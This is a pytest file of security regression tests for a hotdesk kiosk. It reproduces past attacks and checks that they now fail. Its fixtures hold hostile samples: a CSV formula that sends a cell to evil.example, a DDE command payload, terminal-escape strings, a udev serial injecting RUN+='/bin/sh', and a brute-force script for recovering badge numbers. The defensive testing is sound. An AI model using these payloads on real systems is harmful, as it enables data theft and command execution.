"""A kiosk in an open office: what a passer-by at the screen, a local user without root, a
rogue USB device or directory, a stolen SD card or a malicious CSV file could do, each
reproduced the way it was found and checked to fail now. (The badge table and imports are in
`test_badges.py`, the directory in `test_badge_directory.py`.)"""

from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path

import pytest

from tests.test_badges import kiosk as _kiosk  # `kiosk …` in a process of its own

ROOT = Path(__file__).resolve().parent.parent
NOBODY = 65534  # another local user: no root, no hotdesk group

needs_root = pytest.mark.skipif(os.geteuid() != 0, reason="plants files as another user")


def _as_root_outside_systemd(tmp: Path, code: str) -> subprocess.CompletedProcess:
    """Python as `sudo kiosk demo` runs it: root, no systemd folders, TMPDIR = `tmp`."""
    env = {k: v for k, v in os.environ.items()
           if k not in ("KIVY_HOME", "STATE_DIRECTORY", "RUNTIME_DIRECTORY", "XDG_RUNTIME_DIR")}
    env.update(TMPDIR=str(tmp), SDL_VIDEODRIVER="offscreen", PYTHONPATH=str(ROOT))
    return subprocess.run([sys.executable, "-c", code], capture_output=True, text=True,
                          env=env, timeout=120, cwd=tmp)


def _plant(folder: Path, home: str = "kivy") -> Path:
    """What a local user without root did: made the folder first and left a module in Kivy's
    `mods` (which Kivy puts on `sys.path`); Kivy's home is `folder/home`."""
    mods = folder / home / "mods"
    mods.mkdir(parents=True)
    (mods / "planted_probe.py").write_text(
        "import pathlib; pathlib.Path(__file__).with_suffix('.ran').write_text('ran')\n")
    for path in (folder, folder / home, mods, mods / "planted_probe.py"):
        os.chown(path, NOBODY, NOBODY)
    folder.chmod(0o777)
    return mods


@needs_root
def test_a_kivy_home_planted_in_tmp_by_another_user_is_refused(tmp_path):
    folder = tmp_path / f"hotdesk-{os.geteuid()}"
    old = tmp_path / "hotdesk-kivy"  # Kivy's home in earlier versions: no longer used at all
    mods, old_mods = _plant(folder), _plant(old, home="")
    result = _as_root_outside_systemd(tmp_path, (
        "import sys\n"
        "from kiosk.ui.boot import configure\n"
        "configure(offscreen=True)\n"
        "import kivy, planted_probe\n"))
    assert result.returncode != 0
    assert "is not this user's private folder (owner uid 65534" in result.stderr
    assert not (mods / "planted_probe.ran").exists()
    assert not (old_mods / "planted_probe.ran").exists()


@needs_root
def test_the_kiosk_command_names_the_planted_folder_instead_of_running(tmp_path):
    _plant(tmp_path / f"hotdesk-{os.geteuid()}")
    result = _as_root_outside_systemd(tmp_path, (
        "import sys\nfrom kiosk.cli import main\nsys.exit(main(['status']))\n"))
    assert result.returncode == 1, result.stderr
    assert "refusing an unsafe folder" in result.stderr
    assert "sudo rm -r" in result.stderr
    assert "Traceback" not in result.stderr


def test_outside_systemd_the_kiosk_keeps_its_files_in_a_folder_of_its_own(tmp_path):
    result = _as_root_outside_systemd(tmp_path, (
        "import os\n"
        "from kiosk.ui.boot import configure\n"
        "from kiosk.session.lock import default_lock_path\n"
        "from kiosk.status import status_path\n"
        "configure(offscreen=True)\n"
        "print(os.environ['KIVY_HOME']); print(default_lock_path()); print(status_path())\n"))
    assert result.returncode == 0, result.stderr
    home, lock, sock = (Path(line) for line in result.stdout.split())
    private = tmp_path / f"hotdesk-{os.geteuid()}"
    assert home == private / "kivy" and lock.parent == private and sock.parent == private
    info = private.stat()
    assert info.st_uid == os.geteuid() and info.st_mode & 0o777 == 0o700
    assert home.stat().st_mode & 0o777 == 0o700


# --- the session log's exports and tables ------------------------------------------------------


@pytest.fixture
def hostile_log(tmp_path):
    """A session log holding what the server and the people at the screen put there: an agent
    name that is a spreadsheet formula (from the Call Center's profile), a name with terminal
    escapes, an event detail with a bidi override."""
    from kiosk.sessionlog import SessionLog

    path = tmp_path / "sessions.db"
    with SessionLog(path, desk="desk12") as log:
        one = log.begin_session("mai@corp.example.au",
                                agent_name='=HYPERLINK("http://evil.example/?"&A1,"Mai")')
        log.end_session(one, "agent")
        two = log.begin_session("zoe@corp.example.au",
                                agent_name="+SUM(1,2)\x1b[2J\x1b]0;owned\x07")
        log.end_session(two, "agent")
        log.record("warning", two, policy="@cmd|' /C calc'!A0", note="abc\u202edef")
    return path


def test_every_csv_cell_is_text_to_a_spreadsheet(hostile_log):
    """Found: =HYPERLINK(…) and +SUM(…) cells from an agent's name reached a spreadsheet."""
    import csv
    import io

    for command in (["sessions"], ["events"], ["stats", "--by", "agent"]):
        result = _kiosk(*command, "--db", str(hostile_log), "--format", "csv")
        assert result.returncode == 0, result.stderr
        for row in csv.reader(io.StringIO(result.stdout)):
            for cell in row:
                assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (command, cell)
    sessions = _kiosk("sessions", "--db", str(hostile_log), "--format", "csv").stdout
    assert "'=HYPERLINK" in sessions and "'+SUM(1,2)" in sessions  # kept, as text


def test_a_terminal_table_shows_escapes_instead_of_obeying_them(hostile_log):
    """Found: CR/LF, terminal escapes and bidi overrides reached an administrator's terminal
    unescaped (a cleared screen, a rewritten title, reordered text)."""
    for command in (["sessions", "--db", str(hostile_log)], ["events", "--db", str(hostile_log)],
                    ["sessions", "--db", str(hostile_log), "show", "2"]):
        result = _kiosk(*command)
        assert result.returncode == 0, result.stderr
        for bad in ("\x1b", "\x07", "\u202e", "\r"):
            assert bad not in result.stdout, (command, bad)
    shown = _kiosk("events", "--db", str(hostile_log)).stdout
    assert "\\u202e" in shown
    assert "\\u001b" in _kiosk("sessions", "--db", str(hostile_log), "show", "2").stdout


def test_json_output_stays_json_with_escapes(hostile_log):
    import json

    result = _kiosk("sessions", "--db", str(hostile_log), "--format", "json")
    names = [row["agent_name"] for row in json.loads(result.stdout)]
    assert "+SUM(1,2)\x1b[2J\x1b]0;owned\x07" in names  # the data, exactly
    assert "\x1b" not in result.stdout


# --- the directory's password -----------------------------------------------------------------

LDAP = """
[desk]
id = "desk12"
host_user_id = "desk12@corp.example.au"

[callcenter]
url = "https://xsp.example.au/com.broadsoft.xsi-actions/v2.0"

[badge]
table = "{tmp}/badges.json"
key_file = "{tmp}/badge-key"
ldap_url = "ldaps://directory.corp.example"
ldap_bind_dn = "cn=kiosk,ou=services,dc=corp,dc=example"
ldap_base = "ou=people,dc=corp,dc=example"
{extra}
"""


def _ldap_config(tmp_path, extra=""):
    path = tmp_path / "kiosk.toml"
    path.write_text(LDAP.format(tmp=tmp_path, extra=extra))
    (tmp_path / "host-password").write_text("host-secret")
    (tmp_path / "host-password").chmod(0o600)
    return path


def test_a_missing_directory_password_is_named_by_config_check_and_doctor(tmp_path):
    """Found: a missing `ldap_password_file` stopped the whole kiosk (restarted every 3 s)
    while `config check` said OK and `doctor` said nothing."""
    from kiosk import config as configuration
    from kiosk.badges import BadgeTable, DirectoryUnavailable, resolver_for
    from kiosk.doctor import directory_check

    path = _ldap_config(tmp_path, f'ldap_password_file = "{tmp_path}/ldap-password"')
    result = _kiosk("config", "check", str(path))
    assert result.returncode != 0
    assert "badge.ldap_password_file" in result.stdout + result.stderr
    assert "does not exist" in result.stdout + result.stderr
    config = configuration.load(path)
    BadgeTable(tmp_path / "badges.json", key_file=tmp_path / "badge-key").add(
        "0004521788", "mai@corp.example.au")
    resolve = resolver_for(config, environ={})  # the kiosk starts; the table still works
    assert resolve("0004521788") == ("mai@corp.example.au", "table")
    with pytest.raises(DirectoryUnavailable, match="does not exist"):
        resolve("11112222")  # said on the screen as an outage, not "unknown"
    check = directory_check(config, {})
    assert not check.ok and "does not exist" in check.detail


def test_the_directory_password_file_must_be_private(tmp_path):
    from kiosk import config as configuration

    secret = tmp_path / "ldap-password"
    secret.write_text("bind-secret\n")
    secret.chmod(0o644)
    path = _ldap_config(tmp_path, f'ldap_password_file = "{secret}"')
    problems = configuration.check_files(configuration.load(path), environ={})
    assert any("readable by group or others" in str(p) and "chmod 600" in str(p)
               for p in problems)
    secret.chmod(0o600)
    assert configuration.check_files(configuration.load(path), environ={}) == []


def test_the_service_reads_the_directory_password_as_a_credential(tmp_path):
    from kiosk import config as configuration

    credentials = tmp_path / "credentials"
    credentials.mkdir()
    (credentials / "ldap-password").write_text("bind-secret\n")
    config = configuration.load(_ldap_config(tmp_path))
    password = configuration.ldap_password(config,
                                           environ={"CREDENTIALS_DIRECTORY": str(credentials)})
    assert password.reveal() == "bind-secret"
    # an empty credential (install.sh's default) with a bind DN: named, not an anonymous bind
    (credentials / "ldap-password").write_text("")
    with pytest.raises(configuration.ConfigError, match="is empty"):
        configuration.ldap_password(config, environ={"CREDENTIALS_DIRECTORY": str(credentials)})


# --- the wrong-password throttle, and what a failed sign-in leaves behind ---------------------


def test_the_throttle_survives_a_restart(make_unit):
    """Found: the throttle was memory only: pulling the plug (or crashing the kiosk) gave a
    guesser a fresh set of tries."""
    from tests.conftest import ZOE

    unit = make_unit()
    for _ in range(3):
        assert unit.engine.sign_in("zoe", "wrong").result(10).error == "invalid_credentials"
    unit.close()
    again = make_unit()  # the same unit's files, a new process's worth of state
    assert again.engine.sign_in("zoe", ZOE[1]).result(10).error == "throttled"
    assert again.sim.inspect()["users"][ZOE[0]]["failed_logins"] == 3  # nothing more sent


def test_the_throttle_compares_user_ids_as_the_kiosk_does(make_unit):
    """Found: `ZOE`, `Zoe` and `zoe` each had their own count."""
    unit = make_unit()
    for typed in ("ZOE", "Zoe", "zoe@DEMO.example"):
        assert unit.engine.sign_in(typed, "wrong").result(10).error == "invalid_credentials"
    assert unit.engine.sign_in("zOe", "wrong").result(10).error == "throttled"


def test_another_users_success_does_not_reset_the_kiosks_count(make_unit):
    """Found: one guesser, trying many user IDs, reset the kiosk-wide count by signing in
    with their own account in between."""
    from tests.conftest import MAI

    unit = make_unit()
    for user in ("wei", "layla", "francois", "zoe", "wei"):
        unit.engine.sign_in(user, "wrong").result(10)
    assert unit.engine.sign_in("mai", MAI[1]).result(10).ok
    unit.sign_out()
    unit.engine.sign_in("layla", "wrong").result(10)  # the kiosk's sixth failure
    assert unit.engine.sign_in("mai", MAI[1]).result(10).error == "throttled"


def test_a_password_typed_as_the_user_id_never_leaves_the_unit_in_clear(make_unit, tmp_path):
    """Found: a password typed into the User ID field was kept in the session log and copied
    to the site's journal and `stats`."""
    from tests.conftest import ZOE

    unit = make_unit()
    copied = []
    unit.session_log.when_recorded.append(copied.append)
    typed = "Summer2026!"
    assert unit.engine.sign_in(typed, "zoe").result(10).error == "invalid_credentials"
    for _ in range(3):
        unit.engine.sign_in(typed, "zoe").result(10)
    everything = json.dumps(unit.query("SELECT * FROM events")) + json.dumps(copied) + \
        "".join(p.read_text(errors="replace") for p in tmp_path.rglob("throttle.json"))
    assert "Summer2026" not in everything
    assert "unrecognised#" in everything
    stats = _kiosk("stats", "--db", str(unit.session_log.path), "--by", "agent")
    assert "Summer2026" not in stats.stdout
    # a user ID the Call Center accepted here stays readable in the log
    assert unit.engine.sign_in("zoe", ZOE[1]).result(10).ok
    unit.sign_out()
    unit.advance(120)
    unit.engine.sign_in("zoe", "wrong").result(10)
    failed = [json.loads(r["detail"]) for r in unit.query(
        "SELECT detail FROM events WHERE kind = 'signin_failed' ORDER BY id")]
    assert failed[-1]["agent"] == ZOE[0]


# --- errors that name the right culprit ----------------------------------------------------


@pytest.fixture
def refusing_proxy():
    """A site proxy whose rules refuse the tunnel (403 to CONNECT)."""
    import socket
    import threading

    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen(8)

    def serve():
        while True:
            try:
                conn, _ = server.accept()
            except OSError:
                return
            with conn:
                conn.recv(4096)
                conn.sendall(b"HTTP/1.1 403 Forbidden\r\nContent-Length: 0\r\n\r\n")

    threading.Thread(target=serve, daemon=True).start()
    yield f"http://127.0.0.1:{server.getsockname()[1]}"
    server.close()


def test_a_proxy_failure_is_blamed_on_the_proxy(tls_sim, refusing_proxy, unused_port):
    """Found: proxy failures read as the Call Center's ("ProxyError", "connection refused")."""
    from kiosk.callcenter import XsiClient
    from kiosk.errors import Unreachable
    from tests.conftest import ZOE

    for proxy, said in ((refusing_proxy, "it refused the tunnel (403 Forbidden"),
                        (f"http://127.0.0.1:{unused_port}", "connection refused")):
        client = XsiClient(tls_sim.url, *ZOE, ca_bundle=tls_sim.ca_path, proxy=proxy,
                           retries=0)
        with pytest.raises(Unreachable) as failed:
            client.profile()
        client.close()
        assert failed.value.cause == "proxy"
        assert f"the proxy {proxy.removeprefix('http://')} failed: {said}" in str(failed.value)
        assert "ProxyError" not in str(failed.value)


def test_the_screen_names_the_proxy(make_unit, unused_port):
    from kiosk.callcenter import XsiClient
    from kiosk.ui.messages import error_text

    unit = make_unit()
    unit.engine.saga.agent_client_factory = lambda user_id, password: XsiClient(
        unit.sim.url, user_id, password, proxy=f"http://127.0.0.1:{unused_port}", retries=0)
    outcome = unit.engine.sign_in("zoe", "whatever").result(20)
    assert outcome.error == "proxy_unreachable"
    assert "proxy" in error_text("proxy_unreachable")


def test_whoami_names_the_proxy(unit_config, tls_sim, refusing_proxy):
    config = unit_config(url=tls_sim.url, callcenter__ca_bundle=str(tls_sim.ca_path),
                         callcenter__proxy=refusing_proxy)
    result = _kiosk("callcenter", "whoami", "--config", str(config), "--user", "zoe",
                    "--password-stdin", input="zoe-password\n")
    assert result.returncode == 4, result.stderr
    assert "the proxy" in result.stderr and "refused the tunnel" in result.stderr
    assert "ProxyError" not in result.stderr


@needs_root
def test_a_permission_problem_on_the_status_socket_is_named_as_one(tmp_path):
    """Found: `kiosk status` by a user outside the hotdesk group said "no kiosk is running"
    beside a running kiosk."""
    import shutil

    from kiosk.status import StatusServer

    run = tmp_path / "run"
    run.mkdir()
    run.chmod(0o755)
    tmp_path.chmod(0o755)
    server = StatusServer(lambda: {"state": "idle"}, path=run / "status.sock").start()
    python = shutil.which("python3", path="/usr/bin")
    try:
        result = subprocess.run(
            ["setpriv", "--reuid=65534", "--regid=65534", "--clear-groups", python, "-c",
             "import sys; sys.path.insert(0, sys.argv[1]); from kiosk.cli import main; "
             "sys.exit(main(['status']))", str(ROOT)],
            capture_output=True, text=True, timeout=60,
            env={"RUNTIME_DIRECTORY": str(run), "PATH": "/usr/bin:/bin"})
    finally:
        server.close()
    assert result.returncode == 1, result.stderr
    assert "permission denied" in result.stderr and "no kiosk is running" not in result.stderr


# --- the desk phone ---------------------------------------------------------------------------


def test_a_handset_left_off_hook_cannot_postpone_a_sign_out_for_ever(make_unit):
    """Found: a handset left off hook (or a fake phone saying so) postponed every automatic
    sign-out for ever."""
    from kiosk.session import State
    from tests.conftest import ZOE, wait_until

    unit = make_unit(session__association_limit_hours=1, session__hangup_wait_max_min=10)
    assert unit.engine.sign_in("zoe", ZOE[1]).result(10).ok
    unit.sim_phone.lift()
    assert wait_until(lambda: unit.engine.snapshot.off_hook)
    unit.advance(3601)
    assert unit.engine.snapshot.warning.waiting_for_hangup  # a call is not dropped at once
    unit.advance(9 * 60)
    assert unit.engine.snapshot.state is State.ACTIVE
    unit.advance(61)
    assert wait_until(lambda: unit.engine.snapshot.state is State.IDLE)
    unit.engine.settle()
    assert unit.query("SELECT end_reason FROM sessions")[0]["end_reason"] == "limit"
    (row,) = unit.query("SELECT detail FROM events WHERE kind = 'policy_sign_out'")
    assert json.loads(row["detail"]) == {"policy": "limit", "still_off_hook": True}


def test_the_phones_udev_rule_is_tied_to_the_adapters_serial(tmp_path):
    """Found: the rule matched any adapter of the make: a second FTDI cable on a spare USB
    port could become /dev/deskphone."""
    install = [str(ROOT / "systemd" / "install.sh"), "--root", str(tmp_path)]
    rule = tmp_path / "etc/udev/rules.d/99-hotdesk-deskphone.rules"

    def active():
        return [line for line in rule.read_text().splitlines()
                if line and not line.startswith("#")]

    first = subprocess.run(install, capture_output=True, text=True, check=True)
    assert "matches any 0403:6001 adapter" in first.stdout  # none plugged in: said so
    assert all("ATTRS{serial}" not in line for line in active())
    subprocess.run([*install, "--phone-serial", "A7XK2Q9"], check=True, capture_output=True)
    assert all('ATTRS{serial}=="A7XK2Q9"' in line and 'SYMLINK+="deskphone"' in line
               for line in active())
    again = subprocess.run(install, capture_output=True, text=True, check=True)
    assert "99-hotdesk-deskphone.rules" not in again.stdout  # kept as tied
    assert 'ATTRS{serial}=="A7XK2Q9"' in rule.read_text()
    refused = subprocess.run([*install, "--phone-serial", 'x", RUN+="/bin/sh'],
                             capture_output=True, text=True)
    assert refused.returncode == 2 and "letters, digits" in refused.stderr


# --- the OS and the unit -----------------------------------------------------------------------


def _staged(tmp_path, *options):
    return subprocess.run([str(ROOT / "systemd" / "install.sh"), "--root", str(tmp_path),
                           *options], capture_output=True, text=True, check=True)


def test_install_hardens_the_os_as_a_kiosk(tmp_path):
    """Found: Magic SysRq on, spare VTs with gettys, core dumps of set-uid programs."""
    _staged(tmp_path)
    sysctl = (tmp_path / "etc/sysctl.d/90-hotdesk-kiosk.conf").read_text()
    for setting in ("kernel.sysrq = 0", "fs.suid_dumpable = 0", "kernel.dmesg_restrict = 1"):
        assert setting in sysctl
    logind = (tmp_path / "etc/systemd/logind.conf.d/90-hotdesk-kiosk.conf").read_text()
    assert "NAutoVTs=0" in logind and "ReserveVT=0" in logind
    for secret in ("badge-key", "ldap-password"):
        info = (tmp_path / "etc/hotdesk" / secret).stat()
        assert info.st_mode & 0o777 == 0o600, secret
    assert len(bytes.fromhex((tmp_path / "etc/hotdesk/badge-key").read_text().strip())) == 32
    assert not (tmp_path / "etc/udev/rules.d/90-hotdesk-usb-lockdown.rules").exists()


def test_usb_lockdown_authorises_only_the_listed_devices(tmp_path):
    _staged(tmp_path, "--usb-lockdown")
    rules = tmp_path / "etc/udev/rules.d/90-hotdesk-usb-lockdown.rules"
    lines = [line for line in rules.read_text().splitlines() if not line.startswith("#")]
    assert lines[0].endswith('ATTR{authorized_default}="0"')
    assert any('ATTR{idVendor}=="0403", ATTR{idProduct}=="6001", ATTR{authorized}="1"' in line
               for line in lines)
    allow = tmp_path / "etc/hotdesk/usb-allow"
    allow.write_text(allow.read_text() + "0C2E:0B61  # the badge reader\nnot-an-id\n")
    _staged(tmp_path)  # kept on, and the list read again
    text = rules.read_text()
    assert 'ATTR{idVendor}=="0c2e", ATTR{idProduct}=="0b61"' in text and "not-an-id" not in text
    _staged(tmp_path, "--no-usb-lockdown")
    assert not rules.exists()


def test_the_unit_keeps_secrets_out_of_cores_swap_and_the_group():
    unit = (ROOT / "systemd" / "hotdesk-kiosk.service").read_text()
    for line in ("LimitCORE=0", "MemorySwapMax=0",
                 "LoadCredential=badge-key:/etc/hotdesk/badge-key",
                 "LoadCredential=ldap-password:/etc/hotdesk/ldap-password"):
        assert line in unit.splitlines(), line


GUESS_FROM_THE_GROUP = r"""
import hashlib, hmac, json, sys
folder = sys.argv[1]
try:
    key = bytes.fromhex(open(folder + "/badge-key").read().strip())
except OSError as exc:
    print("no key:", exc.strerror); sys.exit(0)
table = json.load(open(folder + "/badges.json"))
found = []
for keyed, entry in {**table.get("badges", {}), **table.get("legacy", {})}.items():
    tail = entry.get("masked", "").lstrip("•")
    for head in range(10 ** 4):  # the 8-digit badges of the test, last four digits known
        number = f"{head:04d}{tail}"
        if hmac.new(key, number.encode(), hashlib.sha256).hexdigest() == keyed:
            found.append(number)
print("recovered:", found)
"""


@needs_root
def test_a_group_member_cannot_turn_the_table_back_into_badge_numbers(tmp_path):
    """Found: the key lay beside the table, readable by the hotdesk group, and the table kept
    the last four digits: a group member recovered all four test badges in 1.5 s."""
    import shutil

    from kiosk.badges import BadgeTable

    group = 4242  # the kiosk's group: the folder's, and so the table's
    etc = tmp_path / "etc-hotdesk"
    etc.mkdir()
    os.chown(etc, 0, group)
    etc.chmod(0o750)
    tmp_path.chmod(0o755)
    table = BadgeTable(etc / "badges.json", key_file=etc / "badge-key")
    numbers = ["10004521", "20045217", "30452178", "44521788"]
    for number in numbers:
        table.add(number, "mai@corp.example.au")
    assert (etc / "badges.json").stat().st_gid == group  # the kiosk's group reads the table
    result = subprocess.run(
        ["setpriv", "--reuid=65534", "--regid=65534", f"--groups={group}",
         shutil.which("python3", path="/usr/bin"), "-c", GUESS_FROM_THE_GROUP, str(etc)],
        capture_output=True, text=True, timeout=120)
    assert result.returncode == 0, result.stderr
    assert result.stdout.strip() == "no key: Permission denied"
    stored = (etc / "badges.json").read_text()
    assert not any(number[-4:] in stored for number in numbers)
